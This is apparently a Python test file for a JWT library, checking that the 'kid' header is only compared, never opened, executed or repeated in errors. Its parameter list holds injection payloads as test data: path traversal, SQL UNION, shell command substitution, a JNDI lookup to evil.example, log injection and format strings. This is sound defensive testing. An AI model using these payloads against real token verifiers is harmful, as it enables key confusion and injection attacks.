"""A `kid` that is a path, a query or a command (RFC 8725 §3.10)."""

import json
from pathlib import Path

import pytest

from jwt_deps.errors import InvalidTokenError, UnknownKeyError
from jwt_deps.settings import JWTSettings
from tests.minting import claims, clock, mint, pair
from tests.saying import everything_said
from tests.sources import Service, each_source, minted
from tests.verifying import verify

KIDS = [
    pytest.param("../../../../dev/null", id="traversal"),
    pytest.param("/dev/null", id="absolute-path"),
    pytest.param("..\\..\\windows\\win.ini", id="windows-path"),
    pytest.param("file:///proc/sys/kernel/randomize_va_space", id="file-url"),
    pytest.param("https://evil.example/key", id="url"),
    pytest.param("a' UNION SELECT 'secret' --", id="sql"),
    pytest.param("a|/usr/bin/id", id="command"),
    pytest.param("$(id)", id="substitution"),
    pytest.param("${jndi:ldap://evil.example/a}", id="jndi"),
    pytest.param("a\x00", id="nul"),
    pytest.param("a\r\nINFO: user admin logged in", id="log-line"),
    pytest.param("{0.__class__}", id="format-string"),
    pytest.param("%s%s%n", id="printf"),
    pytest.param("__proto__", id="prototype"),
    pytest.param("a/../a", id="path-to-itself"),
    pytest.param("ａ", id="look-alike"),  # noqa: RUF001
]


@each_source("RS256")
@pytest.mark.parametrize("kid", KIDS)
def test_a_strangers_token_needs_the_key(source: str, algorithm: str, kid: str) -> None:
    """A `kid` is compared, never opened, run or asked for: it opens nothing to a stranger."""
    service = Service(source, algorithm)
    token = minted(algorithm, pair("RSA", "stranger"), {"kid": kid})

    named = source in {"jwks_file", "discovery_cold", "discovery_warm"}
    assert ("unknown_key" if named else "signature") == service.reason(token)


@pytest.fixture
def settings(tmp_path: Path) -> JWTSettings:
    """A JWK Set with one RSA key, `a`."""
    path = tmp_path / "jwks.json"
    path.write_text(json.dumps({"keys": [pair("RSA").jwk(kid="a")]}))
    return JWTSettings(jwks_file=path, algorithm="RS256")


@pytest.mark.parametrize("kid", KIDS)
def test_names_no_key(settings: JWTSettings, kid: str) -> None:
    """A `kid` is compared, never opened, run or asked for: it names a key or it does not."""
    token = mint(claims(), pair("RSA"), "RS256", header={"kid": kid})

    with pytest.raises(UnknownKeyError):
        verify(token, settings, clock=clock)


@each_source("HS256")
@pytest.mark.parametrize("kid", KIDS)
@pytest.mark.parametrize("secret", [b"", b"\x00", b"2\n"], ids=["empty", "nul", "two"])
def test_does_not_choose_the_secret(source: str, algorithm: str, kid: str, secret: bytes) -> None:
    """A `kid` that points at a file of known content does not make that content the secret."""
    token = minted(algorithm, secret, {"kid": kid})

    assert "signature" == Service(source, algorithm).reason(token)


@pytest.mark.parametrize("kid", KIDS)
def test_is_not_repeated(settings: JWTSettings, kid: str) -> None:
    """No error repeats it: it is an attribute of the error, for those who escape it."""
    token = mint(claims(), pair("RSA"), "RS256", header={"kid": kid})

    with pytest.raises(InvalidTokenError) as refused:
        verify(token, settings, clock=clock)

    assert refused.value.kid == kid
    assert kid not in everything_said(refused.value)
